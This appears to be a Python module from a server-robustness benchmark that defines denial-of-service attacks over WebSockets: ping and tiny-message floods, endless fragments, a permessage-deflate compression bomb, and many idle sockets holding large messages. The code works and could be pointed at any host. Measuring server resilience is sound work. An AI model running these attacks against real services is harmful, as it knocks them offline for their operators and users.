"""Attacks over WebSockets."""

from __future__ import annotations

import socket
import zlib
from collections.abc import Generator
from contextlib import closing

from bench.attacks import Attack, Floor, Row, Target
from bench.attacks.http1 import exchange

HANDSHAKE = (
    b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
)
FIN, COMPRESSED = 0x80, 0x40
CONTINUATION, TEXT, BINARY, PING = 0, 1, 2, 9
MOST = 1_000_000  # bytes of an attack that its server does not end
MIB = 1048576


def frame(first: int, payload: bytes = b"") -> bytes:
    """A client's frame (RFC 6455 section 5.2) whose mask is zero."""
    size = len(payload)
    if size < 126:
        head = bytes((first, 128 | size))
    elif size < 65536:
        head = bytes((first, 254)) + size.to_bytes(2, "big")
    else:
        head = bytes((first, 255)) + size.to_bytes(8, "big")
    return head + bytes(4) + payload


def bomb(size: int) -> bytes:
    """A compressed message of `size` zeros."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = compressor.compress(bytes(size)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    return frame(FIN | COMPRESSED | BINARY, packed[:-4])


def opened(target: Target) -> socket.socket:
    """A WebSocket whose handshake was answered."""
    sock = socket.create_connection((target.host, target.port), timeout=5)
    sock.sendall(HANDSHAKE)
    assert b" 101 " in sock.recv(4096)
    return sock


def pour(piece: bytes, first: bytes = b"") -> Attack:
    """One WebSocket: `first`, then `piece` again and again until enough has left, or the server ends it."""

    def run(target: Target) -> Generator[int, None, None]:
        with closing(opened(target)) as sock:
            yield 0
            yield exchange(sock, first + piece * (MOST // len(piece)))

    return run


def idle_after(data: bytes) -> Attack:
    """Many WebSockets that each send `data`, and then nothing more."""

    def run(target: Target) -> Generator[int, None, None]:
        socks = [opened(target) for _ in range(30)]
        yield 0
        for sock in socks:
            sock.sendall(data)
        yield len(socks) * len(data)
        for sock in socks:
            sock.close()

    return run


ROWS: list[Row] = [
    Row("ws-ping", "WebSocket: pings", "plain", pour(frame(FIN | PING))),
    Row("ws-small", "WebSocket: messages of one byte", "plain", pour(frame(FIN | TEXT, b"a"))),
    Row("ws-empty", "WebSocket: empty fragments", "plain", pour(frame(CONTINUATION), frame(TEXT))),
    Row("ws-fragments", "WebSocket: fragments of one byte", "plain", pour(frame(CONTINUATION, b"a"), frame(TEXT))),
    Row("ws-inflate", "WebSocket: compressed zeros, 1 MiB a message", "plain", pour(bomb(MIB))),
    Row(
        "ws-idle",
        "WebSocket: idle after a large compressed message",
        "plain",
        idle_after(bomb(16 * MIB - 100)),
        floor=Floor("zlib alone takes 2.4 ms for each kB", 7),
    ),
    Row("ws-unfinished", "WebSocket: messages that never end", "plain", idle_after(frame(BINARY, bytes(100_000)))),
]
